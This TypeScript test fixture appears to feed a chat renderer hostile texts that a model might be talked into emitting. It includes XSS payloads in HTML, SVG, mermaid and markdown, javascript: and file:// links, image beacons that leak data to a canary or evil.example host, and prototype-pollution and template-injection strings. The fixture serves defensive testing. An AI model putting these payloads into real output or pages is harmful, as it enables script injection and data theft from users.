/**
 * Texts that try to run something, to reach an address or to leave their place, as a model may be talked into saying them.
 * `CANARY` stands for an address of a server that must never be asked; each entry gets a path of its own there.
 */
export interface HostileText {
  id: string;
  text: string;
}

const entries = (prefix: string, texts: readonly string[]): HostileText[] =>
  texts.map((text, index) => ({ id: `${prefix}-${index + 1}`, text }));

const fence = (language: string, source: string) => `\`\`\`${language}\n${source}\n\`\`\``;

const HTML = entries('html', [
  '<script>window.hacked=1;fetch("CANARY")</script>',
  '<script src="CANARY"></script>',
  '<ScRiPt/src=CANARY></sCrIpT>',
  '<<script>script>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=1">',
  '<img src="CANARY"><img srcset="CANARY 2x">',
  '<img/src=x/onerror=window.hacked=1//',
  '<input autofocus onfocus="window.hacked=1"><details open ontoggle="window.hacked=1">',
  '<video src="CANARY" autoplay poster="CANARY"></video><audio src="CANARY" autoplay></audio>',
  '<object data="CANARY"></object><embed src="CANARY"><applet code="CANARY"></applet>',
  '<iframe src="CANARY"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<frameset><frame src="CANARY"></frameset>',
  '<link rel="stylesheet" href="CANARY"><link rel="prefetch" href="CANARY"><link rel="dns-prefetch" href="CANARY">',
  '<style>@import url(CANARY);*{background:url(CANARY)!important}</style>',
  '<div style="background-image:url(CANARY);position:fixed;inset:0;z-index:9999">overlay</div>',
  '<meta http-equiv="refresh" content="0;url=CANARY">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * \'unsafe-inline\'">',
  '<base href="CANARY"><a href="x">relative</a>',
  '<form action="CANARY" method="post"><button autofocus>Sign in</button></form>',
  '<button formaction="javascript:window.hacked=1" form="x">go</button>',
  '<template><script>window.hacked=1</script></template><noscript><img src="CANARY"></noscript>',
  '<table background="CANARY"><tr><td background="CANARY">x</td></tr></table>',
  '<body onload="window.hacked=1" background="CANARY">',
  '<marquee onstart="window.hacked=1">x</marquee><isindex action="CANARY">',
  '<portal src="CANARY"></portal><webview src="CANARY" nodeintegration></webview>',
  '<a ping="CANARY" href="https://example.com/">ping</a>',
  '<dialog open><form method="dialog"><input name="returnValue"></form></dialog>',
  '<plaintext><xmp><script>window.hacked=1</script>',
  '<!--><script>window.hacked=1</script>-->',
  '<![CDATA[<script>window.hacked=1</script>]]><?xml-stylesheet href="CANARY"?>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '</code></pre></div></main><script>window.hacked=1</script>',
]);

const SVG = entries('svg', [
  '<svg onload="window.hacked=1"></svg>',
  '<svg><script href="CANARY"/><script>window.hacked=1</script></svg>',
  '<svg><use href="CANARY#x"/><image href="CANARY"/></svg>',
  '<svg><a xlink:href="javascript:window.hacked=1"><text y="20">x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:window.hacked=1"/></svg>',
  '<svg><set attributeName="onmouseover" to="window.hacked=1"/></svg>',
  '<svg><foreignObject><iframe src="CANARY"></iframe></foreignObject></svg>',
  '![](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93LmhhY2tlZD0xIi8+)',
  fence('svg', '<svg onload="window.hacked=1"><image href="CANARY"/></svg>'),
  fence('html', '<script>window.hacked=1</script><img src="CANARY">'),
]);

const LINKS = entries(
  'link',
  [
    'javascript:window.hacked=1',
    'JaVaScRiPt:window.hacked=1',
    'java\tscript:window.hacked=1',
    'java&#115;cript:window.hacked=1',
    'java&Tab;script:window.hacked=1',
    '&#x6A;avascript&colon;window.hacked=1',
    '\u0001javascript:window.hacked=1',
    '%6Aavascript:window.hacked=1',
    'javascript%3Awindow.hacked=1',
    'javascript://example.com/%0awindow.hacked=1',
    'jav\u00adascript:window.hacked=1',
    'ｊavascript:window.hacked=1',
    'data:text/html,<script>opener.hacked=1</script>',
    'data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFja2VkPTE8L3NjcmlwdD4=',
    'data:image/svg+xml,<svg onload="opener.hacked=1"/>',
    'DATA:text/html;charset=utf-7,+ADw-script+AD4-',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'FILE://localhost/etc/passwd',
    'file:\\\\server\\share',
    'blob:https://evil.example/00000000-0000-0000-0000-000000000000',
    'filesystem:https://evil.example/temporary/x',
    'about:blank#blocked',
    'view-source:https://evil.example/',
    'app://sluice/',
    'chrome://settings/',
    'devtools://devtools/bundled/inspector.html',
    'ms-msdt:/id PCWDiagnostic /skip force',
    'search-ms:query=x&crumb=location:\\\\evil.example\\share',
    'smb://evil.example/share',
    'sluice://connect?provider=openai-chat&url=https://evil.example&key=sk-0123456789abcdef',
    'intent://scan/#Intent;scheme=zxing;end',
    '//evil.example/scheme',
    '/\\evil.example',
    '\\\\evil.example\\share',
    '?x#token=stolen',
    '#session=other',
    'https://user:password@evil.example/',
    'https://bank.example\u202e/moc.live//:sptth',
    'mailto:a@example.com,b@example.com?attach=/etc/passwd&bcc=spy@evil.example',
  ].map(
    (address) =>
      `[words](<${address.replaceAll('<', '%3C').replaceAll('>', '%3E')}>) and <${address}> and\n\n[a][r]\n\n[r]: ${address}`,
  ),
);

const LEAKS = entries('leak', [
  '![secret](CANARY?conversation=all)',
  '![by reference][x]\n\n[x]: CANARY "title"',
  '[![nested](CANARY)](CANARY)',
  '<img src="CANARY?q=secret" width=1 height=1>',
  '![a](CANARY "onload=window.hacked=1")',
  '![a](//127.0.0.1:PORT/scheme-relative)',
  '![a](\\\\127.0.0.1:PORT\\share\\x.png)',
  '![file](file:///etc/passwd) ![path](/etc/passwd) ![path](C:\\Windows\\win.ini)',
  '![up](/../../../../etc/passwd) ![encoded](/%2e%2e/%2e%2e/etc/passwd)',
  '![media](/media/file?path=/etc/passwd) ![media](media/../../x)',
  '![api](/api/app/sessions.delete) ![socket](/socket.io/?EIO=4&transport=polling)',
  '![ws](ws://127.0.0.1:PORT/) ![ftp](ftp://127.0.0.1:PORT/)',
  '$\\includegraphics{CANARY}$ $\\href{javascript:window.hacked=1}{x}$ $\\url{CANARY}$',
  '$\\htmlStyle{background:url(CANARY)}{x}$ $\\htmlData{x=y}{z}$ $\\htmlId{root}{x}$',
  '$\\def\\a{\\a\\a}\\a$ $\\rule{99999em}{99999em}$ $\\unicode{x3c}$',
  '| ![t](CANARY) | <img src=CANARY> |\n|---|---|\n| ![t](CANARY) | x |',
  '> ![q](CANARY)\n\n1. ![l](CANARY)\n\n# ![h](CANARY)',
  'Text[^1].\n\n[^1]: ![f](CANARY) <script>window.hacked=1</script>',
  fence('css', '@import url(CANARY); body{background:url(CANARY)}'),
  '[prefetch]: CANARY\n\nCANARY and www.evil.example and spy@evil.example',
]);

const mermaid = (id: number, source: string): HostileText => ({ id: `diagram-${id}`, text: fence('mermaid', source) });

const DIAGRAMS: HostileText[] = [
  'flowchart LR\n A["<img src=CANARY onerror=parent.hacked=1>"] --> B["<script>parent.hacked=1</script>"]',
  '%%{init: {"securityLevel":"loose","htmlLabels":true,"themeCSS":"@import url(CANARY);*{background:url(CANARY)}"}}%%\nflowchart LR\n A-->B',
  '%%{init: {"themeVariables":{"fontFamily":"x;}*{background:url(CANARY)}"},"fontFamily":"url(CANARY)"}}%%\nflowchart LR\n A-->B',
  '%%{init: {"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}}%%\nflowchart LR\n A-->B',
  'flowchart LR\n A-->B\n click A href "javascript:parent.hacked=1"\n click B call parent.hacked()\n click A "CANARY" _top',
  'flowchart LR\n A-->B\n style A fill:url(CANARY)\n classDef x background:url(CANARY)\n class B x',
  'sequenceDiagram\n A->>B: <iframe src=CANARY></iframe>\n link A: go @ javascript:parent.hacked=1',
  'classDiagram\n class A\n link A "javascript:parent.hacked=1"\n callback A "parent.hacked"',
  '---\nconfig:\n  securityLevel: loose\n  theme: base\n  themeCSS: "*{background:url(CANARY)}"\n---\nflowchart LR\n A@{ img: "CANARY", label: "x" } --> B',
  'flowchart LR\n A["`<svg onload=parent.hacked=1>`"] --> B["$$\\\\href{javascript:parent.hacked=1}{x}$$"]',
].map((source, index) => mermaid(index + 1, source));

const PAGE = entries('page', [
  '<a id="root" name="root">x</a><form id="document"><input name="cookie"></form>',
  '<img name="getElementById"><img id="sluice"><a id="trustedTypes"></a>',
  '<form name="body"><input name="parentNode"><input id="attributes"></form>',
  '[x](https://example.com "\u202e title \u0000 with\u001b[31m escapes")',
  '\u001b]0;title\u0007\u001b[2J\u001b[31mred\u001b]8;;CANARY\u0007link\u001b]8;;\u0007',
  'Invoice\u202efdp.exe \u2066hidden\u2069 \u200b\ufeff zero width',
  `${'<div>'.repeat(3000)}deep`,
  `${'['.repeat(3000)}${'('.repeat(3000)}`,
  `${'*a **b _c '.repeat(1500)}`,
  `${'> '.repeat(800)}x`,
  fence('__proto__', 'x') + '\n\n' + fence('constructor" onload="window.hacked=1', 'x'),
  `# ${'a'.repeat(20_000)}`,
  '{{constructor.constructor("window.hacked=1")()}} ${window.hacked=1} #{7*7} <%= 7*7 %>',
  '&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=CANARY&#62;',
]);

/** @param address where the canary listens. */
export function hostileTexts(address: string): HostileText[] {
  const { port } = new URL(address);
  return [...HTML, ...SVG, ...LINKS, ...LEAKS, ...DIAGRAMS, ...PAGE].map(({ id, text }) => ({
    id,
    text: text.replaceAll('CANARY', `${address}/hit/${id}`).replaceAll('PORT', port),
  }));
}
